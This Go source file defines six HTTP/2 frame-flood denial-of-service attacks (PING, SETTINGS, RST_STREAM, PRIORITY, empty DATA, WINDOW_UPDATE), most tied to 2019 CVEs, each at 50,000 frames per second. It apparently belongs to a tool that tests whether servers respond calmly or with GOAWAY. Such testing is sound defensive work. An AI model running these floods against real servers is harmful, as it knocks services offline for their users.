package hostile

import "golang.org/x/net/http2"

// floodRate is how many frames per second a flood has.
const floodRate = 50_000

// floods returns the attacks by frames that are cheap to send.
func floods() []Attack {
	return []Attack{
		{
			ID: "ping", Title: "PING flood", Refs: "CVE-2019-9512", Rate: floodRate, Right: []string{calm},
			Step: func(c *Conn, i int) { c.do(c.frames.WritePing(false, [8]byte{byte(i)})) },
		},
		{
			ID: "settings", Title: "SETTINGS flood", Refs: "CVE-2019-9515", Rate: floodRate, Right: []string{calm},
			Step: func(c *Conn, _ int) { c.do(c.frames.WriteSettings()) },
		},
		{
			ID: "rst", Title: "RST_STREAM flood on a closed stream", Refs: "CVE-2019-9514", Rate: floodRate, Right: []string{calm, "GOAWAY STREAM_CLOSED"},
			First: func(c *Conn) { c.get() },
			Step:  func(c *Conn, _ int) { c.do(c.frames.WriteRSTStream(1, http2.ErrCodeCancel)) },
		},
		{
			ID: "priority", Title: "PRIORITY flood", Refs: "CVE-2019-9513", Rate: floodRate, Right: []string{calm},
			Step: func(c *Conn, i int) {
				c.do(c.frames.WritePriority(uint32(2*i+1), http2.PriorityParam{Weight: byte(i)}))
			},
		},
		{
			ID: "data-empty", Title: "empty DATA flood", Refs: "CVE-2019-9518", Rate: floodRate, Right: []string{calm},
			First: func(c *Conn) { c.post() },
			Step:  func(c *Conn, _ int) { c.do(c.frames.WriteData(1, false, nil)) },
		},
		{
			ID: "window-update", Title: "WINDOW_UPDATE flood", Rate: floodRate, Right: []string{calm},
			Step: func(c *Conn, _ int) { c.do(c.frames.WriteWindowUpdate(0, 1)) },
		},
	}
}
